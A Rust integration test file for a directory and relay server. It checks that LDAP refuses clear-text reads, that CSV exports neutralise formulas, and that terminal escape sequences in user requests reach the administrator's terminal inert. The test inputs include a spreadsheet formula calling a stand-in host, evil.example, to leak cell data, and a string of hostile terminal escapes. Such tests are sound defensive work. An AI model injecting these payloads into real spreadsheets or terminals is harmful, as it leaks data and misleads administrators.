//! Small holes closed, each checked with a real client: the directory is not read over
//! LDAP in clear (ldapsearch), its CSV files cannot run formulas in a spreadsheet
//! (python's csv module), and a user's text cannot drive the administrator's terminal
//! (`caducee requests` after a request filed in the personal space with a scripted browser).

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::{browser, Relay};
use serde_json::Value;

const BASE: &str = "ou=directory,dc=relay,dc=test";

/// `caducee user add` with directory fields, as JSON.
fn add(relay: &Relay, local: &str, first: &str, last: &str, extra: &[&str]) -> Value {
    let address = format!("{local}@relay.test");
    let mut args = vec!["user", "add", "--address", &address, "--first-name", first, "--last-name", last];
    args.extend(["--contact-email", "contact@example.org", "--json"]);
    args.extend_from_slice(extra);
    let output = relay.cli(&args);
    assert!(output.status.success(), "user add {local}: {}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).expect("JSON")
}

/// An anonymous `ldapsearch -x` on the StartTLS listener, with `-ZZ` or in clear.
fn ldapsearch(relay: &Relay, starttls: bool, base: &str, extra: &[&str]) -> Output {
    let mut command = Command::new("ldapsearch");
    command.env("LDAPTLS_CACERT", relay.ca());
    command.args(["-LLL", "-x", "-H", &format!("ldap://127.0.0.1:{}", relay.port("ldap"))]);
    if starttls {
        command.arg("-ZZ");
    }
    command.args(["-b", base]).args(extra);
    command.output().expect("ldapsearch (apt-get install ldap-utils)")
}

#[test]
fn the_directory_is_not_read_over_ldap_in_clear_but_is_after_starttls() {
    let dir = tempfile::tempdir().expect("tempdir");
    let relay = Relay::start(&dir.path().join("data"), "");
    add(&relay, "anne.martin", "Anne", "Martin", &["--city", "Lille", "--postcode", "59000"]);

    let clear = ldapsearch(&relay, false, BASE, &["(sn=Martin)", "mail"]);
    assert_eq!(clear.status.code(), Some(13), "confidentialityRequired: {}", String::from_utf8_lossy(&clear.stderr));
    let why = String::from_utf8_lossy(&clear.stderr);
    assert!(why.contains("TLS only"), "the reason is given: {why}");
    assert!(!String::from_utf8_lossy(&clear.stdout).contains("anne.martin"), "nothing sent in clear");

    let secured = ldapsearch(&relay, true, BASE, &["(sn=Martin)", "mail"]);
    assert!(secured.status.success(), "ldapsearch -ZZ: {}", String::from_utf8_lossy(&secured.stderr));
    assert!(String::from_utf8_lossy(&secured.stdout).contains("mail: anne.martin@relay.test"));
}

/// The rows of a CSV text, through python's csv module.
fn csv_rows(dir: &Path, text: &str, delimiter: &str) -> Vec<Value> {
    let file = dir.join("export.csv");
    std::fs::write(&file, text).expect("csv");
    let output = Command::new("python3")
        .args(["-c", "import csv,json,sys; print(json.dumps(list(csv.DictReader(open(sys.argv[1], encoding='utf-8'), delimiter=sys.argv[2]))))"])
        .arg(&file)
        .arg(delimiter)
        .output()
        .expect("python3");
    assert!(output.status.success(), "csv: {}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).expect("JSON")
}

#[test]
fn a_name_written_as_a_formula_stays_text_in_the_csv_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let relay = Relay::start(&dir.path().join("data"), "");
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Martin\")";
    let phone = "+33 3 20 00 00 01";
    add(&relay, "anne.martin", "@SUM(1+1)", formula, &["--city", "Lille", "--phone", phone, "--publish-phone", "on"]);

    let url = format!("https://127.0.0.1:{}/directory.csv", relay.port("https"));
    let web = Command::new("curl").args(["-sf", "--cacert", &relay.ca(), &url]).output().expect("curl");
    assert!(web.status.success(), "GET /directory.csv");
    let web = String::from_utf8(web.stdout).expect("utf-8");
    assert!(!web.contains(",=") && !web.contains(",\"=") && !web.contains(",@"), "no cell starts a formula: {web}");
    let rows = csv_rows(dir.path(), &web, ",");
    assert_eq!(rows[0]["last_name"], format!("'{formula}"), "shown as text, nothing lost");
    assert_eq!(rows[0]["first_name"], "'@SUM(1+1)");
    assert_eq!(rows[0]["phone"], format!("'{phone}"));

    let national = relay.cli(&["directory", "export", "--format", "national"]);
    assert!(national.status.success(), "export: {}", String::from_utf8_lossy(&national.stderr));
    let rows = csv_rows(dir.path(), &String::from_utf8(national.stdout).expect("utf-8"), ";");
    assert_eq!(rows[0]["nom"], format!("'{formula}"));
    assert_eq!(rows[0]["telephone"], format!("'{phone}"));
}

#[test]
fn a_request_text_with_terminal_escapes_is_printed_inert_and_exported_exact() {
    let dir = tempfile::tempdir().expect("tempdir");
    let relay = Relay::start(&dir.path().join("data"), "");
    let (alice, password) = relay.add_user("alice", None);
    let jar = dir.path().join("alice.cookies");
    let login = browser(&relay, &jar, &["login", "--address", &alice, "--password", &password]);
    assert_eq!(login["second_factor"]["status"], 200, "{login}");
    // Retitles the window, clears the screen, then a C1 CSI and a right-to-left override.
    let hostile = "Effacez\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}fin";
    let field = format!("text={hostile}");
    let filed = browser(
        &relay,
        &jar,
        &["post", "/account/requests", "--form-page", "/account", "--field", "kind=erasure", "--field", &field],
    );
    assert_eq!(filed["location"], "/account?done=request", "{filed}");

    let listed = relay.cli(&["requests"]);
    assert!(listed.status.success(), "requests: {}", String::from_utf8_lossy(&listed.stderr));
    let text = String::from_utf8(listed.stdout).expect("utf-8");
    assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "no control character reaches the terminal: {text:?}");
    assert!(!text.contains('\u{202e}'), "{text:?}");
    assert!(text.contains("Effacez\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{9b}31m\\u{202e}fin"), "{text}");

    let json = relay.cli(&["requests", "--json"]);
    let json: Value = serde_json::from_slice(&json.stdout).expect("JSON");
    assert_eq!(json[0]["text"], hostile, "--json keeps the text exact");
}
